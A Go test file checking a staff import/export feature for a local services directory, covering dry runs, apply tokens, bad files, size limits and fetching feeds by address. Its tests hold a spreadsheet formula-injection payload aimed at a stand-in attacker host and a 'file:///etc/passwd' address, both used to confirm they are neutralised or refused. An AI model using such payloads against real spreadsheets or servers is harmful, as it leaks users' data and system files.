package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"joinedup/internal/db"
	"joinedup/internal/db/dbtest"
	"joinedup/internal/offer"
	"joinedup/internal/session"
)

// editor is a Local Offer editor's browser: one session, kept across
// requests, since a checked import belongs to the session that checked it.
type editor struct {
	h      http.Handler
	cookie string
}

func newEditor(t *testing.T, h http.Handler, d *db.DB, person string) *editor {
	t.Helper()
	secret, _, err := session.Create(context.Background(), d, person, "test", "import test", session.StaffTimeouts)
	if err != nil {
		t.Fatal(err)
	}
	return &editor{h: h, cookie: secret}
}

func (e *editor) do(t *testing.T, method, target string, body io.Reader, contentType string) *httptest.ResponseRecorder {
	t.Helper()
	r := httptest.NewRequest(method, target, body)
	if contentType != "" {
		r.Header.Set("Content-Type", contentType)
	}
	r.AddCookie(&http.Cookie{Name: "joinedup", Value: e.cookie})
	w := httptest.NewRecorder()
	e.h.ServeHTTP(w, r)
	return w
}

// upload sends a file through the import form, as a browser does.
func (e *editor) upload(t *testing.T, name string, data []byte) *httptest.ResponseRecorder {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	fw, err := mw.CreateFormFile("file", name)
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(data)
	mw.Close()
	return e.do(t, "POST", "/staff/offer/import", &b, mw.FormDataContentType())
}

func (e *editor) fetch(t *testing.T, addr, format string) *httptest.ResponseRecorder {
	t.Helper()
	form := url.Values{"url": {addr}, "format": {format}}
	return e.do(t, "POST", "/staff/offer/import", strings.NewReader(form.Encode()), "application/x-www-form-urlencoded")
}

func (e *editor) apply(t *testing.T, token string) *httptest.ResponseRecorder {
	t.Helper()
	form := url.Values{"token": {token}}
	return e.do(t, "POST", "/staff/offer/import/apply", strings.NewReader(form.Encode()), "application/x-www-form-urlencoded")
}

func (e *editor) export(t *testing.T, format string) []byte {
	t.Helper()
	w := e.do(t, "GET", "/staff/offer/export."+format, nil, "")
	if w.Code != 200 {
		t.Fatalf("export %s: %d", format, w.Code)
	}
	return w.Body.Bytes()
}

var tokenField = regexp.MustCompile(`name="token" value="([^"]+)"`)

// tokenOf is the token of a dry run's "Apply this import" form, or "".
func tokenOf(w *httptest.ResponseRecorder) string {
	if m := tokenField.FindStringSubmatch(w.Body.String()); m != nil {
		return m[1]
	}
	return ""
}

// pageText is a page's body with tags and runs of spaces taken out, to
// find words in it.
func pageText(w *httptest.ResponseRecorder) string {
	text := regexp.MustCompile(`<[^>]*>`).ReplaceAllString(w.Body.String(), " ")
	return strings.Join(strings.Fields(strings.NewReplacer("&#39;", "'", "&quot;", `"`, "&amp;", "&", "&lt;", "<", "&gt;", ">", "&#34;", `"`).Replace(text)), " ")
}

func wantText(t *testing.T, what string, w *httptest.ResponseRecorder, status int, words ...string) {
	t.Helper()
	if w.Code != status {
		t.Errorf("%s: %d, want %d: %.600s", what, w.Code, status, pageText(w))
	}
	text := pageText(w)
	for _, word := range words {
		if !strings.Contains(text, word) {
			t.Errorf("%s: the page does not say %q: %.1500s", what, word, text)
		}
	}
}

// importSetup is the tiny demo (40 services) with the handler and its
// Local Offer editor, Marcus Reid.
func importSetup(t *testing.T, d *db.DB) (http.Handler, *editor, string) {
	t.Helper()
	w := offerServer(t, d)
	return w.h, newEditor(t, w.h, d, w.marcus), w.marcus
}

// Issue 6, point 7's "done when": import and export round-trip. Each export
// from the editors' page, imported again, is a dry run that changes nothing;
// the ndjson export is the open API's own; both are attachments.
func TestOfferImportRoundTrip(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		h, ed, _ := importSetup(t, d)
		for _, format := range []string{"csv", "ndjson"} {
			w := ed.do(t, "GET", "/staff/offer/export."+format, nil, "")
			if cd := w.Header().Get("Content-Disposition"); w.Code != 200 ||
				!regexp.MustCompile(`^attachment; filename="local-offer-\d{4}-\d\d-\d\d\.`+format+`"$`).MatchString(cd) {
				t.Errorf("export %s: %d, Content-Disposition %q", format, w.Code, cd)
			}
			check := ed.upload(t, "local-offer."+format, w.Body.Bytes())
			wantText(t, format+" export imported again", check, 200, "0 new, 0 changed, 40 unchanged", "there is nothing to import")
			if tokenOf(check) != "" {
				t.Errorf("%s: a dry run that changes nothing offers to apply it", format)
			}
		}
		if ct := ed.do(t, "GET", "/staff/offer/export.csv", nil, "").Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("the CSV export's Content-Type is %q", ct)
		}
		open := httptest.NewRecorder()
		h.ServeHTTP(open, httptest.NewRequest("GET", "/oruk/services?format=ndjson", nil))
		if !bytes.Equal(ed.export(t, "ndjson"), open.Body.Bytes()) {
			t.Error("the editors' ndjson export differs from GET /oruk/services?format=ndjson")
		}
	})
}

// The two steps: a dry run lists what would change, field by field, and
// writes nothing to the directory; "Apply this import" writes exactly that,
// records who imported what, and the check cannot be applied twice.
func TestOfferImportCheckThenApply(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		_, ed, marcus := importSetup(t, d)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(ed.export(t, "csv"), []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		// Line 2 (the first service) renamed; a new service with no id.
		id, oldName := rows[1][0], rows[1][1]
		rows[1][1] = "Renamed in the spreadsheet"
		rows = append(rows, []string{"", "Saturday sensory swim", "Kingfisher Leisure Trust", "Quiet swimming for children who find noise hard"})
		var out bytes.Buffer
		cw := csv.NewWriter(&out)
		cw.WriteAll(rows)
		csv := out.String()

		check := ed.upload(t, "changes.csv", []byte(csv))
		wantText(t, "the dry run", check, 200, "1 new, 1 changed, 39 unchanged", "Saturday sensory swim", "Kingfisher Leisure Trust",
			"Renamed in the spreadsheet", oldName, "line 2", "None: an import never removes a service")
		token := tokenOf(check)
		if token == "" {
			t.Fatalf("the dry run has no Apply form: %.2000s", pageText(check))
		}
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_services"); n != 40 || one(t, d, "SELECT name FROM offer_services WHERE id = $1", id) != oldName {
			t.Fatalf("the dry run wrote to the directory: %d services", n)
		}

		applied := ed.apply(t, token)
		loc := applied.Header().Get("Location")
		if applied.Code != http.StatusSeeOther || !strings.HasPrefix(loc, "/staff/offer/imports/") || !strings.HasSuffix(loc, "?done=applied") {
			t.Fatalf("applying: %d to %q: %.500s", applied.Code, loc, pageText(applied))
		}
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_services"); n != 41 {
			t.Errorf("%d services after the import, want 41", n)
		}
		if got := one(t, d, "SELECT name FROM offer_services WHERE id = $1", id); got != "Renamed in the spreadsheet" {
			t.Errorf("the changed service is called %q", got)
		}
		var by, source, format, sum string
		var size, nw, ch, un int
		if err := d.QueryRow(`SELECT imported_by, source, format, sha256, size, services_new, services_changed, services_unchanged
			FROM offer_imports`).Scan(&by, &source, &format, &sum, &size, &nw, &ch, &un); err != nil {
			t.Fatal(err)
		}
		if by != marcus || source != "changes.csv" || format != "csv" || len(sum) != 64 || size != len(csv) || nw != 1 || ch != 1 || un != 39 {
			t.Errorf("the history row: by %s from %s (%s, %d bytes, %s): %d new, %d changed, %d unchanged", by, source, format, size, sum, nw, ch, un)
		}
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_import_uploads"); n != 0 {
			t.Errorf("%d checked imports kept after applying, want 0", n)
		}
		wantText(t, "the applied import", ed.do(t, "GET", loc, nil, ""), 200, "The import is applied", "Marcus Reid", "changes.csv", "1 new, 1 changed, 39 unchanged")
		wantText(t, "the import page's history", ed.do(t, "GET", "/staff/offer/import", nil, ""), 200, "Marcus Reid", "changes.csv (CSV)")
		wantText(t, "the same check applied again", ed.apply(t, token), 404, "expired or was applied already")
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_imports"); n != 1 {
			t.Errorf("%d imports recorded, want 1", n)
		}
		wantText(t, "an import that is not there", ed.do(t, "GET", "/staff/offer/imports/not-an-import", nil, ""), 404)
	})
}

// If the directory changes between the dry run and "Apply" (here, as if an
// editor approved a provider's edit), nothing is imported: the page says so
// and shows what the import would change now; applying that writes it.
func TestOfferImportRefusesAChangedDirectory(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		_, ed, _ := importSetup(t, d)
		feed := ed.export(t, "ndjson")
		end := bytes.IndexByte(feed, '\n')
		var first offer.Service
		if err := json.Unmarshal(feed[:end], &first); err != nil {
			t.Fatal(err)
		}
		id := first.ID
		first.Description = "Now with a quiet room. " + first.Description
		line, _ := json.Marshal(first)
		changed := string(line) + string(feed[end:])
		check := ed.upload(t, "feed.ndjson", []byte(changed))
		wantText(t, "the dry run", check, 200, "0 new, 1 changed, 39 unchanged", "Now with a quiet room.")
		token := tokenOf(check)

		if _, err := d.Exec("UPDATE offer_services SET email = 'approved.meanwhile@example.org.uk' WHERE id = $1", id); err != nil {
			t.Fatal(err)
		}
		again := ed.apply(t, token)
		wantText(t, "applying after the directory changed", again, 200, "has changed since you checked this import",
			"nothing was imported", "approved.meanwhile@example.org.uk", "0 new, 1 changed, 39 unchanged")
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_services WHERE description LIKE 'Now with a quiet room.%'"); n != 0 {
			t.Fatalf("the refused import was written (%d services)", n)
		}
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_imports"); n != 0 {
			t.Errorf("%d imports recorded for a refused apply", n)
		}
		if tokenOf(again) != token {
			t.Fatalf("the second check's form carries %q, want the same token", tokenOf(again))
		}
		if w := ed.apply(t, token); w.Code != http.StatusSeeOther {
			t.Fatalf("applying the second check: %d: %.500s", w.Code, pageText(w))
		}
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_services WHERE description LIKE 'Now with a quiet room.%'"); n != 1 {
			t.Errorf("%d services carry the import's description, want 1", n)
		}
	})
}

// Bad files: a clear message naming the line and field where there is one,
// never a 500, and nothing kept (no checked import, no change).
func TestOfferImportRefusesBadFiles(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		_, ed, _ := importSetup(t, d)
		feed := ed.export(t, "ndjson")
		ndjson := strings.SplitAfter(string(feed), "\n")
		badAge := ndjson[0] + strings.Replace(ndjson[1], `"status":"`, `"minimum_age":"ten","status":"`, 1) + ndjson[2]
		csv := strings.SplitAfter(string(ed.export(t, "csv")), "\n")
		latin1 := csv[0] + csv[1] + strings.Replace(csv[2], ",", ",Caf\xe9 ", 1)
		for _, c := range []struct {
			name, file string
			data       string
			status     int
			words      []string
		}{
			{"no file chosen", "", "", 422, []string{"Choose a file to import"}},
			{"an empty file", "empty.csv", "", 422, []string{"The file is empty"}},
			{"a wrong type on line 2", "feed.ndjson", badAge, 422, []string{"line 2", "minimum_age", "must be a whole number", "Nothing was imported"}},
			{"not JSON", "feed.json", "{not json at all", 422, []string{"line 1", "is not valid JSON"}},
			{"a picture called .json", "photo.json", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xd8", 422, []string{"not UTF-8"}},
			{"a CSV in Windows-1252", "services.csv", latin1, 422, []string{"line 3", "not UTF-8", "save the file as CSV UTF-8"}},
			{"a CSV in UTF-16", "services.csv", "\xff\xfen\x00a\x00m\x00e\x00", 422, []string{"UTF-16"}},
			{"an unknown column", "services.csv", "name,organisation,colour\nSwim,Leisure Trust,blue\n", 422, []string{"unknown column", "colour"}},
			{"a term the directory lacks", "services.csv", "name,organisation,categories\nSwim,Leisure Trust,Underwater basket weaving\n", 422,
				[]string{"line 2", "categories", "Underwater basket weaving"}},
			{"a cell with a stray quote", "services.csv", "name,organisation\nSwim \"deep,Leisure Trust\n", 422, []string{"line 2"}},
		} {
			t.Run(c.name, func(t *testing.T) {
				w := ed.upload(t, c.file, []byte(c.data))
				wantText(t, c.name, w, c.status, c.words...)
				if tokenOf(w) != "" {
					t.Errorf("%s: the page offers to apply it", c.name)
				}
				if !strings.Contains(w.Body.String(), "govuk-error-summary") {
					t.Errorf("%s: no error summary", c.name)
				}
			})
		}
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_import_uploads"); n != 0 {
			t.Errorf("%d checked imports kept for bad files", n)
		}
		if !bytes.Equal(ed.export(t, "ndjson"), feed) {
			t.Error("the directory changed")
		}
	})
}

// Formula injection: a cell a spreadsheet would run is imported as the text
// it is, and the CSV export writes it neutralised (csvsafe).
func TestOfferImportFormulaCells(t *testing.T) {
	d := dbtest.SQLite(t)
	_, ed, _ := importSetup(t, d)
	const formula = `=HYPERLINK("http://attacker.example/?"&A1,"Book now")`
	csv := "name,organisation,description\n\"" + strings.ReplaceAll(formula, `"`, `""`) + "\",Leisure Trust,+44 1905 000000\n"
	check := ed.upload(t, "injected.csv", []byte(csv))
	wantText(t, "a formula in a cell", check, 200, "1 new", formula)
	if w := ed.apply(t, tokenOf(check)); w.Code != http.StatusSeeOther {
		t.Fatalf("applying: %d", w.Code)
	}
	if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_services WHERE name = $1 AND description = '+44 1905 000000'", formula); n != 1 {
		t.Fatalf("the formula was not kept as text (%d services)", n)
	}
	out := string(ed.export(t, "csv"))
	if !strings.Contains(out, `"'=HYPERLINK(""http://attacker.example/?""&A1,""Book now"")"`) || !strings.Contains(out, ",'+44 1905 000000") {
		t.Errorf("the export does not neutralise the cells:\n%s", out[strings.Index(out, "HYPERLINK")-20:][:200])
	}
	if w := ed.upload(t, "again.csv", []byte(out)); !strings.Contains(pageText(w), "0 new, 0 changed, 41 unchanged") {
		t.Errorf("the neutralised export read back: %.500s", pageText(w))
	}
}

// endless is "1 GB" that is never held anywhere: it counts what was read.
type endless struct {
	prefix []byte
	read   int64
	limit  int64
}

func (e *endless) Read(p []byte) (int, error) {
	if e.read >= e.limit {
		return 0, io.EOF
	}
	n := copy(p, e.prefix)
	e.prefix = e.prefix[n:]
	for i := n; i < len(p); i++ {
		p[i] = 'a'
	}
	n = len(p)
	e.read += int64(n)
	return n, nil
}

// A file over the limit, sent as a 1 GB upload or given as an address,
// is refused with the limit named, after reading little more than the limit.
func TestOfferImportTooLarge(t *testing.T) {
	old := offerImportLimit
	offerImportLimit = 1 << 20
	t.Cleanup(func() { offerImportLimit = old })
	d := dbtest.SQLite(t)
	_, ed, _ := importSetup(t, d)

	body := &endless{prefix: []byte("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"huge.ndjson\"\r\n\r\n"), limit: 1 << 30}
	w := ed.do(t, "POST", "/staff/offer/import", body, "multipart/form-data; boundary=b")
	wantText(t, "a 1 GB upload", w, 422, "The file is larger than 1 MB")
	if body.read > 3<<20 {
		t.Errorf("the server read %d MiB of the upload", body.read>>20)
	}

	var sent int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-ndjson")
		chunk := bytes.Repeat([]byte("a"), 64<<10)
		for sent < 1<<30 {
			n, err := w.Write(chunk)
			sent += int64(n)
			if err != nil {
				return
			}
		}
	}))
	defer srv.Close()
	wantText(t, "a 1 GB feed at an address", ed.fetch(t, srv.URL+"/huge.ndjson", "oruk"), 422, "The feed at this address is larger than 1 MB")
	if sent > 64<<20 {
		t.Errorf("the server was made to send %d MiB", sent>>20)
	}
}

// An address the partnership gives: fetched by the server (here from
// 127.0.0.1), every page of an ORUK feed followed; anything but an http or
// https address that answers a feed is refused on the form, naming the field.
func TestOfferImportFromAnAddress(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		h, ed, _ := importSetup(t, d)
		csv := ed.export(t, "csv")
		lines := bytes.Split(bytes.TrimSpace(ed.export(t, "ndjson")), []byte("\n"))
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/oruk/services": // our own API: the full services as ndjson with format=ndjson
				h.ServeHTTP(w, r)
			case "/pages": // an ORUK feed of full services, 15 a page: three pages
				page, _ := strconv.Atoi(r.URL.Query().Get("page"))
				page = max(page, 1)
				from, to := min((page-1)*15, len(lines)), min(page*15, len(lines))
				w.Header().Set("Content-Type", "application/json")
				fmt.Fprintf(w, `{"total_items": %d, "size": 15, "page_number": %d, "total_pages": 3, "last_page": %v, "contents": [%s]}`,
					len(lines), page, to == len(lines), bytes.Join(lines[from:to], []byte(",")))
			case "/services.csv":
				w.Header().Set("Content-Type", "text/csv")
				w.Write(csv)
			default:
				http.NotFound(w, r)
			}
		}))
		defer srv.Close()
		closed := httptest.NewServer(http.NotFoundHandler())
		gone := closed.URL
		closed.Close()

		oruk := ed.fetch(t, srv.URL+"/oruk/services?format=ndjson", "oruk")
		wantText(t, "an ORUK API's ndjson by its address", oruk, 200, "0 new, 0 changed, 40 unchanged", srv.URL+"/oruk/services?format=ndjson", "ORUK 3.0")
		wantText(t, "a paged ORUK feed", ed.fetch(t, srv.URL+"/pages", "oruk"), 200, "0 new, 0 changed, 40 unchanged")
		wantText(t, "a CSV by its address", ed.fetch(t, srv.URL+"/services.csv", "csv"), 200, "0 new, 0 changed, 40 unchanged")
		for _, c := range []struct {
			name, addr, format string
			words              []string
		}{
			{"no address", "", "oruk", []string{"Enter the address of the feed"}},
			{"a file on the server", "file:///etc/passwd", "oruk", []string{"Enter an address starting with https://"}},
			{"another scheme", "ftp://example.org/feed.json", "oruk", []string{"Enter an address starting with https://"}},
			{"no format chosen", srv.URL + "/oruk/services", "", []string{"Choose what the address gives"}},
			{"a page that is not there", srv.URL + "/nothing.json", "oruk", []string{"The address did not give a feed", "404"}},
			{"a CSV that is not there", srv.URL + "/nothing.csv", "csv", []string{"The address did not give a feed", "404"}},
			{"a server that is not there", gone + "/oruk/services", "oruk", []string{"The feed could not be fetched from this address"}},
		} {
			t.Run(c.name, func(t *testing.T) {
				w := ed.fetch(t, c.addr, c.format)
				wantText(t, c.name, w, 422, append(c.words, "There is a problem", "Import or export the Local Offer")...)
			})
		}
		if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_import_uploads"); n != 0 {
			t.Errorf("%d checked imports kept, want none: nothing could be applied", n)
		}
	})
}

// A checked import belongs to the session that checked it, for an hour: a
// token in another session, a made-up one, or one an hour old is refused
// like a missing one, and nothing is written.
func TestOfferImportTokenIsTheSessions(t *testing.T) {
	d := dbtest.SQLite(t)
	h, ed, marcus := importSetup(t, d)
	feed := strings.Replace(string(ed.export(t, "ndjson")), `"description":"`, `"description":"Changed. `, 1)
	token := tokenOf(ed.upload(t, "feed.ndjson", []byte(feed)))
	if token == "" {
		t.Fatal("no token")
	}
	other := newEditor(t, h, d, marcus)
	wantText(t, "another session", other.apply(t, token), 404, "expired or was applied already")
	wantText(t, "a made-up token", ed.apply(t, strings.Repeat("A", len(token))), 404, "expired or was applied already")
	wantText(t, "no token", ed.apply(t, ""), 404)
	if _, err := d.Exec("UPDATE offer_import_uploads SET expires_at = $1", time.Now().UTC().Add(-time.Second)); err != nil {
		t.Fatal(err)
	}
	wantText(t, "once expired", ed.apply(t, token), 404, "expired")
	if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_services WHERE description LIKE 'Changed. %'"); n != 0 {
		t.Errorf("a refused token imported %d services", n)
	}
	if n := dbtest.Count(t, d, "SELECT COUNT(*) FROM offer_imports"); n != 0 {
		t.Errorf("%d imports recorded", n)
	}
}
